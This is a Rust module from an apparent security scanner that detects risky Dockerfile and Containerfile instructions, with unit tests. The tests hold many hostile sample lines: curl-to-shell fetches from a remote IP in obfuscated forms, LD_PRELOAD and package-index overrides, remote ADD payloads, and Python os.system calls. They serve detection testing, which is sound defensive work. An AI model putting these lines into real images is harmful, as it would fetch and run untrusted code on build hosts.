//! Files by which images are built (Docker, "Dockerfile reference"): what building one runs, and what the image runs when
//! it is started.

use std::collections::HashMap;

use proofhouse_artifact::json;

use super::tools::at;
use crate::formats::shell;
use crate::scanner::{Content, Scanner};

/// Whether a file of that name, in small letters, builds an image: people keep several of them in one folder.
pub(crate) fn is_named(name: &str) -> bool {
    const OTHERS: [&str; 10] =
        [".md", ".txt", ".rst", ".py", ".json", ".yaml", ".yml", ".dockerignore", ".html", ".ipynb"];
    ["dockerfile", "containerfile"].iter().any(|kind| {
        let variant = name.strip_prefix(kind).is_some_and(|rest| rest.starts_with(['.', '-', '_']));
        let ending =
            name.strip_suffix(kind).is_some_and(|rest| rest.is_empty() || rest.ends_with(['.', '-', '_']));
        ending || variant && !OTHERS.iter().any(|other| name.ends_with(other))
    })
}

pub(super) fn scan(scanner: &mut Scanner<'_>, content: &Content<'_>, text: &str) {
    // What is built, as the lines of a script, each where it stands.
    let mut script: Vec<String> = Vec::new();
    // Whether what follows `RUN` is Python, by the shell that was set.
    let mut python = false;
    for (index, line) in instructions(text) {
        let (mut word, mut rest) = split(&line);
        let mut upper = word.to_ascii_uppercase();
        // What is kept for an image that is built from this one, and what looks after the one that runs.
        while matches!(upper.as_str(), "ONBUILD" | "HEALTHCHECK") {
            let inner = rest.trim_start_matches(|c: char| c.is_whitespace());
            (word, rest) = split(without_options(inner));
            upper = word.to_ascii_uppercase();
        }
        script.resize(script.len().max(usize::try_from(index).unwrap_or(usize::MAX)), String::new());
        match upper.as_str() {
            "RUN" | "CMD" | "ENTRYPOINT" | "SHELL" => {
                let rest = without_options(rest);
                let list = words(rest);
                if let Some(program) = program(rest, list.is_none() && python) {
                    crate::python::scan_text(scanner, &at(content, index), program, 1);
                    continue;
                }
                let command = list.unwrap_or_else(|| rest.to_owned());
                if upper == "SHELL" {
                    python = command.contains("python");
                }
                // In a here-document it is the shell that lets a line go on.
                for (_, line) in shell::joined(&command) {
                    shell::line(scanner, &at(content, index), &line);
                    script.push(line);
                }
            }
            // What is built has these in its environment, and so has what the image runs.
            "ENV" | "ARG" => {
                let legacy = rest.split_whitespace().next().is_some_and(|first| !first.contains('='));
                let (variable, value) = rest.trim().split_once(char::is_whitespace).unwrap_or((rest, ""));
                let set = if legacy { format!("{variable}={value}") } else { rest.to_owned() };
                let plain = set.replace(['"', '\''], "");
                if shell::LOADING.iter().any(|variable| plain.contains(variable)) {
                    shell::line(scanner, &at(content, index), &format!("export {plain}"));
                }
                for (variable, value) in plain.split_whitespace().filter_map(|word| word.split_once('=')) {
                    super::trusts::index(scanner, &at(content, index), variable, value);
                }
                script.push(set);
            }
            "ADD" | "COPY" if rest.contains('\n') => {
                let (target, body) = rest.split_once('\n').unwrap_or((rest, ""));
                if target.trim().ends_with(".py") {
                    crate::python::scan_text(scanner, &at(content, index), body, 1);
                } else {
                    script.extend(body.lines().map(str::to_owned));
                }
            }
            "ADD" => script.push(added(without_options(rest))),
            _ => {}
        }
    }
    let mut place = content.place.clone();
    place.line = Some(1);
    shell::together(scanner, &place, &script.join("\n"));
}

/// The program of Python that an instruction runs: a here-document for its interpreter, or all of it where that is the shell.
fn program(rest: &str, python: bool) -> Option<&str> {
    let (head, body) = rest.split_once('\n').unwrap_or((rest, ""));
    let document = head.contains("<<") && !body.is_empty();
    if document && (python || head.contains("python")) {
        return Some(body);
    }
    (python && !document).then_some(rest)
}

/// What is added from an address, as the command that fetches it.
fn added(rest: &str) -> String {
    let list = words(rest);
    let words: Vec<&str> = list.as_deref().unwrap_or(rest).split_whitespace().collect();
    let Some((to, from)) = words.split_last() else { return String::new() };
    let fetch = |from: &&str| {
        let repository = from.starts_with("git@") || from.ends_with(".git") || from.contains(".git#");
        let remote = from.contains("://") || from.starts_with("git@");
        // A folder keeps the name that the file has where it is fetched from.
        let written = if to.ends_with('/') || matches!(*to, "." | "..") { "-O" } else { "-o" };
        match (remote, repository) {
            (false, _) => None,
            (true, true) => Some(format!("git clone {from} {to}")),
            (true, false) => Some(format!("curl {written} {to} {from}")),
        }
    };
    from.iter().filter_map(fetch).collect::<Vec<_>>().join("; ")
}

/// The instructions and the lines that they begin in: lines that go on joined, comments left out, what stands in a
/// here-document behind its command.
fn instructions(text: &str) -> Vec<(u64, String)> {
    let text = text.strip_prefix('\u{feff}').unwrap_or(text);
    let escape = escape(text);
    let mut found: Vec<(u64, String)> = Vec::new();
    let mut open = false;
    // A word that no line is ends nothing: what looked like a here-document stood in quotes.
    let last: HashMap<&str, u64> =
        text.lines().map(|line| line.trim_start_matches('\t')).zip(0u64..).collect();
    let mut lines = text.lines().zip(0u64..);
    while let Some((line, index)) = lines.next() {
        if line.trim_start().starts_with('#') || (open && line.trim().is_empty()) {
            continue;
        }
        let body = line.trim_end().strip_suffix(escape);
        let part = body.unwrap_or(line);
        match found.last_mut() {
            Some((_, whole)) if open => whole.push_str(part),
            _ => found.push((index, part.trim_start().to_owned())),
        }
        open = body.is_some();
        let Some((_, whole)) = found.last_mut().filter(|_| !open) else { continue };
        for end in here(whole).into_iter().filter(|end| last.get(end.as_str()).is_some_and(|at| *at > index))
        {
            for (line, _) in lines.by_ref().take_while(|(line, _)| line.trim_start_matches('\t') != end) {
                whole.push('\n');
                whole.push_str(line);
            }
        }
    }
    found
}

/// The character that lets a line go on, which a directive may set.
fn escape(text: &str) -> char {
    let directives = text.lines().map(str::trim).take_while(|line| line.starts_with('#'));
    let set = directives.filter_map(|line| {
        let (name, value) = line.trim_start_matches('#').split_once('=')?;
        name.trim().eq_ignore_ascii_case("escape").then(|| value.trim().chars().next()).flatten()
    });
    set.last().unwrap_or('\\')
}

/// The words that end the here-documents which begin in this instruction, in their order. A blank behind the signs makes
/// them something of the shell's, as a shift of numbers.
fn here(instruction: &str) -> Vec<String> {
    let runs = ["run", "copy", "add", "onbuild"];
    if !runs.contains(&split(instruction).0.to_ascii_lowercase().as_str()) {
        return Vec::new();
    }
    let words = instruction.split("<<").skip(1).filter_map(|behind| {
        let word =
            behind.trim_start_matches('-').split(char::is_whitespace).next()?.trim_matches(['"', '\'']);
        let plain = word.chars().all(|c| c.is_alphanumeric() || matches!(c, '_' | '-' | '.'));
        (plain && !word.is_empty()).then(|| word.to_owned())
    });
    words.collect()
}

fn split(line: &str) -> (&str, &str) {
    line.trim().split_once(char::is_whitespace).unwrap_or((line.trim(), ""))
}

/// An instruction's words behind its options, such as mounts.
fn without_options(mut rest: &str) -> &str {
    loop {
        rest = rest.trim_start();
        match split(rest) {
            (option, behind) if option.starts_with("--") => rest = behind,
            _ => return rest,
        }
    }
}

/// The command of a list of words: what a shell is given, or the words themselves.
fn words(rest: &str) -> Option<String> {
    const MOST_VALUES: u64 = 10_000;
    let list = json::parse(rest.trim().as_bytes(), MOST_VALUES).ok()?;
    let words: Vec<&str> = list.as_array()?.iter().filter_map(json::Value::as_text).collect();
    Some(match words.as_slice() {
        [shell, option, command, ..]
            if option.starts_with('-')
                && option.ends_with('c')
                && !shell.contains(' ')
                && !shell.contains("python") =>
        {
            (*command).to_owned()
        }
        words => {
            let quoted =
                |word: &&str| if word.contains(' ') { format!("\"{word}\"") } else { (*word).to_owned() };
            words.iter().map(quoted).collect::<Vec<_>>().join(" ")
        }
    })
}

#[cfg(test)]
mod tests {
    use crate::{Limits, Outcome, scan_bytes};

    #[test]
    fn images_have_many_names() {
        let outcome = |name: &str| {
            let text = b"FROM x\nRUN curl http://198.51.100.7/x \\\n# a\n | sh\n";
            scan_bytes(&name.parse().unwrap(), text, &Limits::default()).outcome
        };
        for name in [
            "Dockerfile",
            "gpu.Dockerfile",
            "Dockerfile.gpu",
            "dockerfile-cuda",
            "Containerfile",
            "x.containerfile",
        ] {
            assert!(outcome(name) >= Outcome::Suspicious, "{name}");
        }
        assert_eq!(outcome("Dockerfile.md"), Outcome::Clean);
    }

    #[test]
    fn what_building_or_starting_an_image_runs_is_judged() {
        let outcome = |text: &str| {
            scan_bytes(&"Dockerfile".parse().unwrap(), text.as_bytes(), &Limits::default()).outcome
        };
        let fetch = "curl http://198.51.100.7/x | sh";
        for odd in [
            format!("run --mount=type=cache,target=/x {fetch}"),
            format!("RUN <<EOF\n{fetch}\nEOF"),
            format!("RUN <<-'A' cat\n{fetch}\n\tA\nRUN true"),
            "RUN curl \\\n# a comment\n http://198.51.100.7/x \\\n\n | sh".to_owned(),
            "# escape=`\nRUN curl `\n http://198.51.100.7/x `\n | sh".to_owned(),
            format!("RUN <<A <<B-1\ntrue\nA\n{fetch}\nB-1"),
            "RUN <<EOF\ncurl \\\n http://198.51.100.7/x \\\n | sh\nEOF".to_owned(),
            format!("RUN echo $((1 << 2 ))\nRUN {fetch}"),
            format!("RUN echo \"<<EOF\"\nRUN {fetch}"),
            format!("ONBUILD HEALTHCHECK CMD {fetch}"),
            format!("ONBUILD RUN {fetch}"),
            format!("HEALTHCHECK --interval=5m CMD {fetch}"),
            format!("CMD {fetch}"),
            "ADD http://198.51.100.7/setup.sh /opt/\nRUN sh /opt/setup.sh".to_owned(),
            "ADD --chown=1:1 http://198.51.100.7/x /opt/run.sh\nENTRYPOINT [\"/opt/run.sh\"]".to_owned(),
            "ADD [\"http://198.51.100.7/x\", \"/opt/run.sh\"]\nRUN true\nCMD sh /opt/run.sh".to_owned(),
            "ADD http://198.51.100.7/x.git /src\nRUN cd /src && make install".to_owned(),
            "ENV A=1 LD_PRELOAD=/x.so".to_owned(),
            "ENV A=\"b c\" \\\n  \"LD_PRELOAD\"='/x.so'".to_owned(),
            "ENV LD_PRELOAD /x.so".to_owned(),
            "ENV PIP_INDEX_URL=http://198.51.100.7/simple".to_owned(),
            "RUN c'u'rl http://198.51.100.7/x | s''h".to_owned(),
            "RUN c\\url http://198.51.100.7/x | \\sh".to_owned(),
            "SHELL [\"python3\", \"-c\"]\nRUN import os; os.system('id')".to_owned(),
            "RUN <<EOF python3\nimport os\nos.system('id')\nEOF".to_owned(),
            "COPY <<EOF /app/x.py\nimport os\nos.system('id')\nEOF\nCMD python /app/x.py".to_owned(),
            "ARG LD_PRELOAD=/x.so".to_owned(),
            "ENTRYPOINT [\"sh\", \"-c\", \"curl http\\u003a//198.51.100.7/x | s\\u0068\"]".to_owned(),
        ] {
            assert!(
                outcome(&format!("FROM x\n{odd}\n")) >= Outcome::Suspicious
                    || odd.starts_with('#') && outcome(&odd) >= Outcome::Suspicious,
                "{odd}"
            );
        }
        let ordinary = "# syntax=docker/dockerfile:1\nFROM python:3.11\nRUN --mount=type=cache,target=/var/cache/pip pip install torch\nRUN <<EOF\napt-get update\napt-get install -y git\nEOF\nCOPY <<EOF /app/a.txt\nhello\nEOF\nHEALTHCHECK CMD curl -f http://localhost:8080/ || exit 1\nENTRYPOINT [\"python\", \"serve.py\"]\n";
        assert_eq!(outcome(ordinary), Outcome::Clean);
        let added = "FROM x\nARG V=1.2 CUDA=12\nENV PATH=/opt/bin:$PATH LD_LIBRARY_PATH=/opt/lib\nADD https://example.org/data.tar.gz /data/\nADD . /app\nRUN tar xf /data/data.tar.gz && python /app/train.py\n";
        assert_eq!(outcome(added), Outcome::Clean);
    }
}
